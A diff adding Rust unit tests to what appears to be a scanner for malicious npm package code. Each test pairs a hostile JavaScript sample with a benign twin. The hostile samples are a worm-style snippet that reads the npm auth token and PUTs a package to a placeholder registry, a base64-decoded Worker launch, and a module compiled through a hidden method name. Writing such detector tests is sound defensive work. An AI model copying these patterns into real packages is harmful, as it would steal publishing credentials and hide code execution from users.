@@ -1162,3 +1162,89 @@ exports.exportTo = (name) => fs.writeFileSync(path.join(process.env.HOME, 'Docum
     );
 }
 
+
+#[test]
+fn a_token_printed_by_a_command_and_sent_is_exfiltration() {
+    // The registry token asked of npm itself, then used to publish a package document
+    // (the way a worm republishes without shelling out to `npm publish`).
+    let worm = r#"
+const { execSync } = require('child_process');
+const reg = 'https://registry.example.invalid';
+const tok = execSync('npm config get //registry.example.invalid/:_authToken').toString().trim();
+const doc = { _id: 'x', name: 'x', 'dist-tags': { latest: '1.0.1' }, _attachments: {} };
+fetch(reg + '/x', { method: 'PUT', headers: { authorization: 'Bearer ' + tok }, body: JSON.stringify(doc) });
+"#;
+    let f = facts(worm);
+    assert!(f.iter().any(|x| x.0 == K::SecretExfiltration), "{f:?}");
+    // The twin asks npm for the registry's address and fetches a package document.
+    let client = r#"
+const { execSync } = require('child_process');
+const reg = execSync('npm config get registry').toString().trim();
+fetch(reg + '/left-pad', { headers: { accept: 'application/json' } }).then((r) => r.json());
+"#;
+    let f = facts(client);
+    assert!(!f.iter().any(|x| x.0 == K::SecretExfiltration), "{f:?}");
+}
+
+#[test]
+fn a_worker_started_from_decoded_code_is_decode_execute() {
+    // One statement in a bundle: workers started from a blob of base64-decoded code.
+    let code = "postMessage(1)";
+    let b64 = "cG9zdE1lc3NhZ2UoMSk=";
+    assert_eq!(code.len(), 14);
+    let bundle = format!(
+        "!function(){{try{{var u=URL.createObjectURL(new Blob([atob(\"{b64}\")]));for(var i=0;i<4;i++)new Worker(u)}}catch(e){{}}}}();\n"
+    );
+    let f = facts(&bundle);
+    assert!(f.iter().any(|x| x.0 == K::DecodeExecute), "{f:?}");
+    // Bundlers start workers from their own files, or from a blob of constant code.
+    let benign = r#"
+const a = new Worker(new URL('./resize.worker.js', import.meta.url), { type: 'module' });
+const src = 'self.onmessage = (e) => postMessage(e.data * 2);';
+const b = new Worker(URL.createObjectURL(new Blob([src], { type: 'text/javascript' })));
+"#;
+    let f = facts(benign);
+    assert!(
+        !f.iter()
+            .any(|x| matches!(x.0, K::DecodeExecute | K::DownloadExecute | K::DynamicExecute)),
+        "{f:?}"
+    );
+}
+
+
+#[test]
+fn a_new_module_given_code_through_a_hidden_method_name_runs_it() {
+    // The method name (`_compile`) and the code both come from a table of the package,
+    // so neither folds; the fresh module gives it away.
+    let src = r#"
+var names = require('./lib/names.json'), blob = require('./lib/blob.json');
+!function () {
+  try {
+    var m = new module.constructor();
+    m.paths = module.paths;
+    m[names[blob.length % 7]](blob.join(''), '');
+  } catch (e) {}
+}();
+"#;
+    let f = facts(src);
+    assert!(
+        f.iter()
+            .any(|x| matches!(x.0, K::DynamicExecute | K::DecodeExecute)),
+        "{f:?}"
+    );
+    // Plugin loaders call methods of their own objects by computed names, and a test
+    // helper compiles a constant module under its real name.
+    let benign = r#"
+const hooks = { start() {}, stop() {} };
+for (const k of Object.keys(hooks)) hooks[k](process.argv);
+const Module = require('module');
+const m = new Module('fixture');
+m._compile('module.exports = 42', 'fixture.js');
+"#;
+    let f = facts(benign);
+    assert!(
+        !f.iter()
+            .any(|x| matches!(x.0, K::DynamicExecute | K::DecodeExecute | K::Obfuscation)),
+        "{f:?}"
+    );
+}
